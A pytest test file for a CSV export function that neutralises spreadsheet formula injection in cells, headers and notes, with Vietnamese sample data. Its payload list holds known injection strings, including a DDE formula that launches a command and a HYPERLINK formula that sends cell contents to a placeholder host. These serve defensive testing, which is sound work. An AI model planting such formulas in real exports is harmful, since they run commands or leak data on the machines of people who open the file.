"""Exports: a spreadsheet opens them right and cannot run them (OWASP, CSV injection)."""

from __future__ import annotations

import csv
import io

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from sharing.exports import csv_bytes

BOM = b"\xef\xbb\xbf"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n")
# OWASP's and what penetration tests try, one a line.
PAYLOADS = (
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x/?"&A1,"mở")', "+1+1", "-1+1",
    "-2+3+cmd|'/C'", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "=IMPORTXML(CONCAT(1))",
    "@import", "+84912345678", "-", "=",
)  # fmt: skip
NOTES = ["Toàn tỉnh, 10/2026", "Ấn bản 00001-abcdef01"]
TEXT = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=12)


def cells(content: bytes) -> list[list[str]]:
    assert content.startswith(BOM)
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def test_a_table_is_written_for_spreadsheets() -> None:
    table = pd.DataFrame({"Đơn vị": ["Xã Bát Mọt"], "Hồ sơ": [332], "Tỷ số": [0.625]})
    content = csv_bytes(table, NOTES)
    assert (
        content
        == BOM
        + (
            "Đơn vị,Hồ sơ,Tỷ số\r\n"
            "Xã Bát Mọt,332,0.625\r\n"
            "\r\n"
            '"Toàn tỉnh, 10/2026"\r\n'
            "Ấn bản 00001-abcdef01\r\n"
        ).encode()
    )
    assert content.count(BOM) == 1


@pytest.mark.parametrize("payload", PAYLOADS, ids=repr)
def test_a_formula_is_made_text_wherever_it_stands(payload: str) -> None:
    table = pd.DataFrame({"tên": ["trước", payload], payload: ["a", "b"]})
    header, _, row, *rest = cells(csv_bytes(table, [payload]))
    assert header == ["tên", "'" + payload]
    assert row == ["'" + payload, "b"]
    assert rest[-1] == ["'" + payload]


@pytest.mark.parametrize(
    "text", ["Xã Bát Mọt", "10-12", "a=b", "'đã có", " =1", "1+1", "", "Hồ sơ - trực tuyến"]
)
def test_harmless_text_is_left_alone(text: str) -> None:
    rows = cells(csv_bytes(pd.DataFrame({"a": ["x", text]}), []))
    assert rows[2] == ([text] if text else [""])


def test_numbers_stay_numbers_also_when_negative() -> None:
    table = pd.DataFrame({"chênh lệch": [-130, 5], "tỷ lệ": [-0.5, 1e-7], "có": [True, False]})
    rows = cells(csv_bytes(table, []))
    assert rows[1:3] == [["-130", "-0.5", "True"], ["5", "1e-07", "False"]]
    assert float(rows[2][1]) == 1e-7


def test_numbers_among_texts_stay_numbers() -> None:
    table = pd.DataFrame({"a": pd.Series([-130, "-130", 0.25, None], dtype="object")})
    rows = cells(csv_bytes(table, []))
    assert [row[0] for row in rows[1:4]] == ["-130", "'-130", "0.25"]


def test_what_is_missing_is_empty_and_not_zero() -> None:
    table = pd.DataFrame(
        {"số": [1.5, np.nan], "chữ": pd.Series(["a", None], dtype="str"),
         "ngày": [pd.Timestamp("2025-07-01"), pd.NaT],
         "nguyên": pd.array([3, None], dtype="Int64")}
    )  # fmt: skip
    rows = cells(csv_bytes(table, []))
    assert rows[1] == ["1.5", "a", "2025-07-01", "3"]
    assert rows[2] == ["", "", "", ""]


def test_every_digit_of_a_number_survives() -> None:
    numbers = [0.1 + 0.2, 1 / 3, 149470.0, 22.629107335018393]
    rows = cells(csv_bytes(pd.DataFrame({"a": numbers}), []))
    assert [float(row[0]) for row in rows[1:5]] == numbers


def test_categories_are_text_too() -> None:
    table = pd.DataFrame({"a": pd.Series(["=1", "b"], dtype="category")})
    assert cells(csv_bytes(table, []))[1] == ["'=1"]


def test_the_given_table_is_not_changed() -> None:
    table = pd.DataFrame({"=a": ["=1", "b"], "n": [1, 2]})
    before = table.copy(deep=True)
    csv_bytes(table, ["=x"])
    pd.testing.assert_frame_equal(table, before)


def test_a_table_without_rows_or_notes_is_still_a_table() -> None:
    rows = cells(csv_bytes(pd.DataFrame({"a": pd.Series([], dtype="str")}), []))
    assert rows[0] == ["a"]
    assert all(row in ([], [""]) for row in rows[1:])


def test_the_notes_stand_apart_in_the_first_column() -> None:
    content = csv_bytes(pd.DataFrame({"a": [1], "b": [2]}), ["một, hai", 'ba "bốn"', "năm\nsáu"])
    rows = cells(content)
    assert rows[2] == []
    assert rows[3:] == [["một, hai"], ['ba "bốn"'], ["năm\nsáu"]]


@given(
    values=st.lists(TEXT, min_size=1, max_size=6), heading=TEXT, notes=st.lists(TEXT, max_size=3)
)
def test_no_cell_ever_begins_a_formula_and_no_text_is_lost(
    values: list[str], heading: str, notes: list[str]
) -> None:
    heading = heading or "a"
    table = pd.DataFrame({heading: values, f"{heading} 2": range(len(values))})
    rows = cells(csv_bytes(table, notes))
    for row in rows:
        for cell in row:
            assert not cell.startswith(DANGEROUS)
    found = [row[0] for row in rows[1 : len(values) + 1]]
    for value, cell in zip(values, found, strict=True):
        assert cell in {value, "'" + value}
        assert (cell == value) == (not value.startswith(DANGEROUS))
    assert [row[1] for row in rows[1 : len(values) + 1]] == [str(n) for n in range(len(values))]
